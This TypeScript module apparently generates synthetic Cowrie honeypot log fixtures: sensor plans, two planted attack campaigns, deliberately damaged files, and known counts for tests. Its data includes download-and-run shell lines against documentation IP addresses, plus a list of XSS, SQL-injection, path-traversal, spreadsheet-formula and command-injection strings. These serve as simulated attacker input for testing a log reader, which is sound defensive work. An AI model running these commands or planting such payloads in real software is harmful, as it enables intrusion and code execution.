/**
 * The example fleet: five honeypots, six weeks, a story with known facts, and every oddity a folder of logs can have.
 *
 * Run directly, it writes test/fixtures/fleet and test/fixtures/eras afresh. What was planted, and the counts that a
 * right reader finds, are told in test/fixtures/README.md and, for tests, in FLEET_FACTS.
 */
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { gunzipSync, gzipSync, zstdCompressSync, zstdDecompressSync } from "node:zlib";
import { dateText, dayNumber, type EraName, quote, timestampText } from "./cowrie-eras.ts";
import { type SensorLog, type SensorPlan, Session } from "./cowrie-session.ts";
import { shaOf } from "./cowrie-world.ts";
import { type Campaign, generateLogs, type Plant, RARE_EXCHANGE } from "./generate-logs.ts";

const FIRST_DAY = "2026-07-06";
const DAYS = 42;
const SEED = "example fleet";

/** Client of the planted sessions; nobody else uses it. */
const PLANTED_VERSION = "SSH-2.0-Planted_1.0";

const SENSORS: readonly SensorPlan[] = [
  { name: "hp-ams-01", eras: [{ from: FIRST_DAY, era: "v3" }], telnetShare: 0, weight: 1.2 },
  {
    name: "hp-sgp-01",
    eras: [
      { from: FIRST_DAY, era: "v2.8" },
      { from: "2026-07-29", era: "v3" },
    ],
    telnetShare: 0.35,
    weight: 1.1,
    mappedTelnet: true,
  },
  {
    name: "hp-nyc-01",
    eras: [{ from: FIRST_DAY, era: "v2.2" }],
    telnetShare: 0,
    weight: 0.9,
    down: ["2026-07-22", "2026-07-26"],
  },
  {
    name: "hp-waw-02",
    eras: [{ from: FIRST_DAY, era: "v3" }],
    telnetShare: 0.5,
    weight: 0.8,
    joins: "2026-08-01",
    zoneMinutes: 120,
  },
  { name: "hp-lab-01", eras: [{ from: FIRST_DAY, era: "v1.3" }], telnetShare: 0.3, weight: 0.2, underscoreNames: true },
];

const KESTREL: Campaign = {
  name: "kestrel",
  first: "2026-07-30",
  sensors: ["hp-ams-01", "hp-sgp-01", "hp-nyc-01", "hp-waw-02"],
  perDay: 4,
  username: "sysop",
  password: "Kestrel#2026",
  version: "SSH-2.0-libssh2_1.11.0",
  lines: ["grep PRETTY /etc/os-release", "cd /tmp && wget -q http://203.0.113.200/kestrel.sh -O .k && sh .k; rm -f .k"],
  url: "http://203.0.113.200/kestrel.sh",
  shasum: shaOf("kestrel"),
  prefix: "203.0.113.",
  machines: 30,
  positives: 3,
};

const HERON: Campaign = {
  name: "heron",
  first: FIRST_DAY,
  last: "2026-08-02",
  sensors: ["hp-ams-01", "hp-sgp-01", "hp-nyc-01"],
  perDay: 4,
  username: "support",
  password: "heron!4711",
  version: "SSH-2.0-paramiko_3.4.0",
  lines: ["cd /var/tmp; curl -s -o heron http://files.example.org/heron; chmod +x heron; ./heron -d"],
  url: "http://files.example.org/heron",
  shasum: shaOf("heron"),
  prefix: "203.0.113.1",
  machines: 40,
  positives: 41,
};

/** Each is once a password and once a command on `hp-nyc-01` and on `hp-ams-01`. */
export const HOSTILE_STRINGS: readonly string[] = [
  "<script>alert(1)</script>",
  "</script><img src=x onerror=alert(2)>",
  "<!--<script>",
  '"><svg/onload=alert(3)>',
  "{{#rows}}{{{secret}}}{{/rows}}",
  "\u001b]0;owned\u0007\u001b[2J\u001b[31mred\u001b[0m",
  "\u009b31mC1",
  "\u202egnp.exe\u202c",
  "nul\u0000byte",
  "lone high \ud800 surrogate",
  "lone low \udfff surrogate",
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "__proto__",
  "constructor",
  "toString",
  "'; DROP TABLE events; --",
  "../../../../etc/passwd",
  "$(touch /tmp/pwned)`id`",
  "first\r\nsecond",
  "line\u2028separator\u2029",
  "\ufeffbom inside",
  "😀 ümläut 密码",
  " ",
  "",
  "null",
  "%00%0d%0a%s%n",
];

/** A command no table can show whole. */
export const LONG_COMMAND = `echo ${"QUJD".repeat(5000)} | base64 -d > /tmp/.x`;

/** What a right reader finds; checked against the committed files by an obvious count. */
export const FLEET_FACTS = {
  firstDay: FIRST_DAY,
  lastDay: "2026-08-16",
  sensors: SENSORS.map(({ name }) => name),
  files: 181,
  /** Kept out as identical to, or the beginning of, another file; counted in `files`. */
  duplicateFiles: ["hp-nyc-01/cowrie.json.2026-08-24", "backup/hp-ams-01/cowrie.json"],
  /** Objects read without help; the repaired come on top. */
  events: 20_063,
  repaired: 3,
  rejected: 7,
  pending: 1,
  down: { sensor: "hp-nyc-01", first: "2026-07-22", last: "2026-07-26" },
  joins: { sensor: "hp-waw-02", first: "2026-08-01" },
  starts: KESTREL,
  ends: HERON,
  spike: { sensor: "hp-ams-01", day: "2026-07-18", srcIp: "203.0.113.250", username: "oracle", sessions: 150, each: 6 },
  midnight: {
    sensor: "hp-ams-01",
    srcIp: "203.0.113.251",
    connectDay: "2026-07-20",
    lastCommandDay: "2026-07-21",
    commands: ["uptime # before midnight", "last # after midnight"],
  },
  hostile: { sensors: ["hp-ams-01", "hp-nyc-01"], day: "2026-08-14", srcIp: "203.0.113.252" },
  unknownEvent: { sensor: "hp-sgp-01", day: "2026-08-14", eventid: "cowrie.custom.geo", count: 3 },
  late: { sensor: "hp-ams-01", day: "2026-08-11", srcIp: "203.0.113.253", shasum: shaOf("late") },
} as const;

function at(date: string, clock = "00:00:00"): number {
  return Date.parse(`${date}T${clock}Z`) * 1000;
}

function planted(log: SensorLog, us: number, ip: string): Session {
  return new Session(log, us, "ssh", ip).version(PLANTED_VERSION, RARE_EXCHANGE);
}

function plants(): Plant[] {
  const { spike, midnight, hostile, unknownEvent, late } = FLEET_FACTS;
  const list: Plant[] = [];
  for (let i = 0; i < spike.sessions; i++) {
    list.push({
      sensor: spike.sensor,
      us: at(spike.day, "03:10:00") + i * 36_000_000,
      play: (log, us) => {
        const session = planted(log, us, spike.srcIp);
        for (let k = 0; k < spike.each; k++) session.login(spike.username, `oracle${i * spike.each + k}`, false);
        session.close();
      },
    });
  }
  list.push({
    sensor: midnight.sensor,
    us: at(midnight.connectDay, "23:58:40"),
    play: (log, us) => {
      const session = planted(log, us, midnight.srcIp).login("root", "nightshift", true).openShell();
      session.us = at(midnight.connectDay, "23:59:10");
      session.command(midnight.commands[0]);
      session.us = at(midnight.lastCommandDay, "00:02:30");
      session.command(midnight.commands[1]).closeShell(midnight.commands).close();
    },
  });
  for (const sensor of hostile.sensors) {
    list.push({ sensor, us: at(hostile.day, "11:00:00"), play: (log, us) => playHostile(log, us, hostile.srcIp) });
  }
  for (let i = 0; i < unknownEvent.count; i++) {
    list.push({
      sensor: unknownEvent.sensor,
      us: at(unknownEvent.day, "06:00:00") + i * 3_600_000_000 + 250_000,
      play: (log, us) =>
        log.raw(
          us,
          `{"eventid":"${unknownEvent.eventid}","geoip":{"country":"ZZ","loc":[1.5,${i}]},"score":0.${i + 1},` +
            `"__proto__":{"polluted":true},"tags":[],"none":null,"sensor":"${log.plan.name}",` +
            `"timestamp":"${timestampText(us)}","session":"00000000000${i}","src_ip":"2001:db8::${i + 1}"}`,
        ),
    });
  }
  list.push({ sensor: late.sensor, us: at(late.day, "15:00:00"), play: (log, us) => playLate(log, us) });
  // Bytes that are no UTF-8: Python's repr as text.
  list.push({
    sensor: "hp-sgp-01",
    us: at("2026-07-15", "09:30:00"),
    play: (log, us) => planted(log, us, "203.0.113.254").login("root", "b'\\xff\\xfe\\x00'", false).close(),
  });
  return list;
}

function playHostile(log: SensorLog, us: number, ip: string): void {
  const session = new Session(log, us, "ssh", ip).version("SSH-2.0-<script>alert(4)</script>\u001b[2J");
  for (const text of HOSTILE_STRINGS) session.login("hostile", text, false);
  session.login("__proto__", "constructor", true);
  session.variable("__proto__", "<script>alert(5)</script>").terminal(80, 24).openShell();
  for (const text of HOSTILE_STRINGS) session.command(text);
  if (log.plan.name === "hp-nyc-01") session.command(LONG_COMMAND);
  session.download("http://203.0.113.66/</script><script>alert(6)</script>", shaOf("hostile download"));
  session.download("javascript:alert(7)", shaOf("hostile download"));
  session.uploadSftp("../../../../root/.ssh/authorized_keys", shaOf("hostile upload"));
  session.uploadSftp('=HYPERLINK("http://203.0.113.66","x").csv', shaOf("hostile upload"));
  session.uploadScp("<img src=x onerror=alert(8)>", "/tmp/\u202efdp.sh", shaOf("hostile upload"));
  session.forward("<b>bold</b>.example", 80, "GET /</script> HTTP/1.0\r\n\r\n\u0000\u001b[2J", 0);
  session.closeShell(HOSTILE_STRINGS).close();
}

/** A download that finishes when its session is over. */
function playLate(log: SensorLog, us: number): void {
  const { srcIp, shasum } = FLEET_FACTS.late;
  const session = planted(log, us, srcIp).login("root", "slowline", true);
  session.openShell().command("wget http://203.0.113.201/slow.bin").closeShell(["wget"]).close();
  session.us += 9_000_000;
  const outfile = `var/lib/cowrie/downloads/${shasum}`;
  const fields = ["url", '"http://203.0.113.201/slow.bin"', "outfile", quote(outfile), "shasum", quote(shasum)];
  session.emit(
    "cowrie.session.file_download",
    [...fields, "duplicate", "false"],
    `Downloaded URL (http://203.0.113.201/slow.bin) with SHA-256 ${shasum} to ${outfile}`,
    { late: true },
  );
}

/** A file of the fixtures before it is packed. */
export interface FixtureFile {
  text: Buffer;
  pack?: "gzip" | "gzip-members" | "zstd";
}

/** Every file below test/fixtures that this module makes, by path. */
export function buildFixtures(): Map<string, FixtureFile> {
  const files = new Map<string, FixtureFile>();
  for (const [path, file] of buildFleet()) files.set(`fleet/${path}`, file);
  for (const [path, text] of buildEras()) files.set(`eras/${path}`, { text });
  return files;
}

function buildFleet(): Map<string, FixtureFile> {
  const texts = new Map<string, string>();
  generateLogs(
    {
      seed: SEED,
      firstDay: FIRST_DAY,
      days: DAYS,
      sensors: SENSORS,
      eventsPerDay: 72,
      campaigns: [KESTREL, HERON],
      plants: plants(),
    },
    (path, text) => texts.set(path, (texts.get(path) ?? "") + text),
  );
  return packed(odd(texts));
}

/** Damage and disguise some files as life does. */
function odd(texts: ReadonlyMap<string, string>): Map<string, Buffer> {
  const files = new Map<string, Buffer>([...texts].map(([path, text]) => [path, Buffer.from(text, "latin1")]));
  const nyc = (date: string) => `hp-nyc-01/cowrie.json.${date}`;
  const edit = (path: string, change: (lines: string[]) => string) => {
    const text = texts.get(path);
    if (text === undefined) throw new RangeError(`Cannot make "${path}" odd: expected a generated file`);
    files.set(path, Buffer.from(change(text.slice(0, -1).split("\n")), "utf8"));
  };
  const ended = (lines: readonly string[]) => `${lines.join("\n")}\n`;

  // Truncated under a writer that kept its offset.
  edit(nyc("2026-08-06"), lines => "\0".repeat(4096) + ended(lines));
  // An object that failed to serialise, the next one glued behind it.
  edit(nyc("2026-08-07"), lines =>
    ended(lines.map((line, i) => (i === 12 ? `{"eventid":"cowrie.login.failed","username":${line}` : line))),
  );
  // A line cut by rotation: its other half opens the next file.
  const last = texts.get(nyc("2026-08-08"))!.trimEnd().split("\n").at(-1)!;
  const cut = Math.floor(last.length / 2);
  edit(nyc("2026-08-08"), lines => `${ended(lines.slice(0, -1))}${last.slice(0, cut)}`);
  edit(nyc("2026-08-09"), lines => ended([last.slice(cut), ...lines]));
  // Lines that hold arrays; one element is no event.
  edit(nyc("2026-08-10"), ([a, b, c, d, ...rest]) => ended([`[${a},${b},${c}]`, `[${d}, 17]`, ...rest]));
  // Went through a Windows editor.
  edit(nyc("2026-08-11"), lines => `\ufeff${lines.join("\r\n")}\r\n`);
  edit(nyc("2026-08-12"), lines => ended(lines.flatMap((line, i) => (i % 20 === 5 ? ["", line, " "] : [line]))));
  // Seconds out of order, as when two writers share a file.
  edit("hp-sgp-01/cowrie.json.2026-08-12", lines => {
    for (let i = 0; i + 3 < lines.length; i += 10) [lines[i], lines[i + 3]] = [lines[i + 3]!, lines[i]!];
    return ended(lines);
  });
  edit("hp-sgp-01/cowrie.json.2026-08-13", lines => {
    REJECTS.forEach((reject, i) => lines.splice(5 + 7 * i, 0, reject));
    return ended(lines);
  });
  // Python left the fraction out when it was zero.
  edit("hp-lab-01/cowrie.json.2026_8_9", lines =>
    ended(lines.map((line, i) => (i < 2 ? line.replace(/(T..:..:..)\.\d+Z/, "$1Z") : line))),
  );
  // Still being written; and a copy of it from earlier that day.
  const live = texts.get("hp-ams-01/cowrie.json")!;
  const early = live.lastIndexOf("\n", Math.floor(live.length * 0.6)) + 1;
  files.set("hp-ams-01/cowrie.json", Buffer.from(live + PARTIAL, "latin1"));
  files.set("backup/hp-ams-01/cowrie.json", Buffer.from(live.slice(0, early), "latin1"));
  files.set(nyc("2026-08-24"), files.get(nyc("2026-08-13"))!);
  return files;
}

/** Each is rejected for a reason of its own. */
const REJECTS = [
  "Traceback (most recent call last):",
  '{"eventid":"cowrie.login.failed","username":"root","passw',
  '{"timestamp":"2026-08-13T10:00:00.000000Z","message":"no eventid","session":"aaaaaaaaaaaa"}',
  '{"eventid":"cowrie.session.closed","session":"aaaaaaaaaaaa","sensor":"hp-sgp-01"}',
  '{"eventid":"cowrie.session.closed","timestamp":"yesterday","session":"aaaaaaaaaaaa","sensor":"hp-sgp-01"}',
  "42",
];

/** The beginning of a line that is still being written. */
const PARTIAL = '{"session":"0123456789ab","protocol":"ssh","src_ip":"203.0.113.9","src_p';

/** First day that still lies there unpacked, how the older ones were packed, and what that did to their names. */
const ARCHIVES: readonly { sensor: string; plainFrom: string; pack: "gzip" | "zstd"; dated: boolean }[] = [
  { sensor: "hp-ams-01", plainFrom: "2026-08-12", pack: "gzip", dated: false },
  { sensor: "hp-sgp-01", plainFrom: "2026-08-12", pack: "zstd", dated: false },
  { sensor: "hp-nyc-01", plainFrom: "2026-08-06", pack: "gzip", dated: true },
  { sensor: "hp-waw-02", plainFrom: "2026-08-14", pack: "gzip", dated: false },
];

function packed(files: ReadonlyMap<string, Buffer>): Map<string, FixtureFile> {
  const result = new Map<string, FixtureFile>();
  for (const [path, text] of files) {
    const [, sensor, date] = /^([^/]+)\/cowrie\.json\.(\d{4}-\d\d-\d\d)$/.exec(path) ?? [];
    const archive = ARCHIVES.find(entry => entry.sensor === sensor);
    if (archive === undefined || date! >= archive.plainFrom) {
      result.set(path, { text });
      continue;
    }
    const { pack, dated } = archive;
    // logrotate's `dateext` names, or the dated name with an ending.
    const name = dated ? `cowrie.json-${date!.replaceAll("-", "")}` : `cowrie.json.${date}`;
    const members = sensor === "hp-ams-01" && date === "2026-07-07";
    result.set(`${sensor}/${name}${pack === "gzip" ? ".gz" : ".zst"}`, { text, pack: members ? "gzip-members" : pack });
  }
  return result;
}

/** One small log per Cowrie era, dated as it would be, with every event the era can write. */
export const ERA_FILES: readonly { path: string; era: EraName; day: string }[] = [
  { path: "kipp-2015/cowrie.json", era: "kipp", day: "2015-11-03" },
  { path: "cow-2016/cowrie.json", era: "cow", day: "2016-01-10" },
  { path: "v1.2-2017/cowrie.json.2017_5_3", era: "v1.2", day: "2017-05-03" },
  { path: "v1.3-2018/cowrie.json.2018-05-14", era: "v1.3", day: "2018-05-14" },
  { path: "v2.2-2020/cowrie.json.2020-11-20", era: "v2.2", day: "2020-11-20" },
  { path: "v2.5-2023/cowrie.json.2023-03-01", era: "v2.5", day: "2023-03-01" },
  { path: "v2.8-2025/cowrie.json.2025-10-20", era: "v2.8", day: "2025-10-20" },
  { path: "v3-2026/cowrie.json.2026-08-01", era: "v3", day: "2026-08-01" },
];

function buildEras(): Map<string, Buffer> {
  const files = new Map<string, Buffer>();
  for (const { path, era, day } of ERA_FILES) {
    const sensor = `hp-${path.split("/", 1)[0]!.replace(/\W/g, "-")}`;
    const numbered = era === "kipp" || era === "cow";
    let text = "";
    generateLogs(
      {
        seed: `${SEED} ${era}`,
        firstDay: day,
        days: 1,
        sensors: [{ name: sensor, eras: [{ from: day, era }], telnetShare: numbered ? 0 : 0.3, weight: 1 }],
        eventsPerDay: 40,
        plants: [{ sensor, us: at(day, "12:00:00"), play: (log, us) => playShowcase(log, us, !numbered) }],
      },
      (_, piece) => (text += piece),
    );
    files.set(path, Buffer.from(text, "latin1"));
  }
  return files;
}

/** Sessions that show every kind of event the era writes. */
function playShowcase(log: SensorLog, us: number, telnet: boolean): void {
  const session = planted(log, us, "192.0.2.200").offerKey("root", 1);
  session.login("root", "wrong", false).login("root", "right", true);
  session.variable("LANG", "en_US.UTF-8").terminal(132, 43).openShell();
  session.command("uname -a").command("nosuchcommand --help");
  session.command("wget http://203.0.113.9/show.sh").download("http://203.0.113.9/show.sh", shaOf("show"));
  session.scan(shaOf("show"), 12, 70).scan(shaOf("show new"), undefined, 70);
  session.failDownload("http://203.0.113.9/gone.sh");
  session.uploadSftp("show.bin", shaOf("show upload")).uploadScp("show.scp", "/tmp/show.scp", shaOf("show scp"));
  session.forward("ip-check.example.com", 80, "GET / HTTP/1.1\r\nHost: ip-check.example.com\r\n\r\n", 1);
  session.forward("203.0.113.80", 443, "", 2);
  session.capture("/tmp/out.txt", shaOf("show redirect")).capture("", shaOf("show stdin"));
  session.closeShell(["uname -a", "nosuchcommand --help"]).close();
  if (!telnet) return;
  const other = new Session(log, us + 60_000_000, "telnet", "192.0.2.201");
  other.telnetOption("WILL", "NAWS", 31).login("root", "xc3511", true).openShell();
  other.command("enable").command("cat /proc/mounts; /bin/busybox SHOW").closeShell(["enable"]).close();
}

/** The bytes that go to disk. */
export function packFile({ text, pack }: FixtureFile): Buffer {
  if (pack === "gzip") return gzipSync(text, { level: 9 });
  if (pack === "zstd") return zstdCompressSync(text);
  if (pack === undefined) return text;
  // Three members, the second one empty, the cuts anywhere in a line: what `cat a.gz b.gz` makes.
  const cut = Math.floor(text.length / 2);
  const parts = [text.subarray(0, cut), text.subarray(0, 0), text.subarray(cut)];
  return Buffer.concat(parts.map(part => gzipSync(part, { level: 9 })));
}

/** The text in the bytes of a file, whatever it is packed with. */
export function unpackFile(bytes: Buffer): Buffer {
  if (bytes[0] === 0x1f && bytes[1] === 0x8b) return gunzipSync(bytes);
  if (bytes.length >= 4 && bytes.readUInt32LE(0) === 0xfd2fb528) return zstdDecompressSync(bytes);
  return bytes;
}

/** Where the fixtures lie in this checkout. */
export const FIXTURES_FOLDER = join(import.meta.dir, "..", "fixtures");

function main(): void {
  const files = buildFixtures();
  for (const folder of ["fleet", "eras"]) rmSync(join(FIXTURES_FOLDER, folder), { recursive: true, force: true });
  let size = 0;
  for (const [path, file] of files) {
    const bytes = packFile(file);
    size += bytes.length;
    mkdirSync(dirname(join(FIXTURES_FOLDER, path)), { recursive: true });
    writeFileSync(join(FIXTURES_FOLDER, path), bytes);
  }
  const span = `${FIRST_DAY} to ${dateText(dayNumber(FIRST_DAY) + DAYS - 1)}`;
  console.error(`${files.size} files, ${(size / 1e6).toFixed(2)} MB, ${span}`);
}

if (import.meta.main) main();
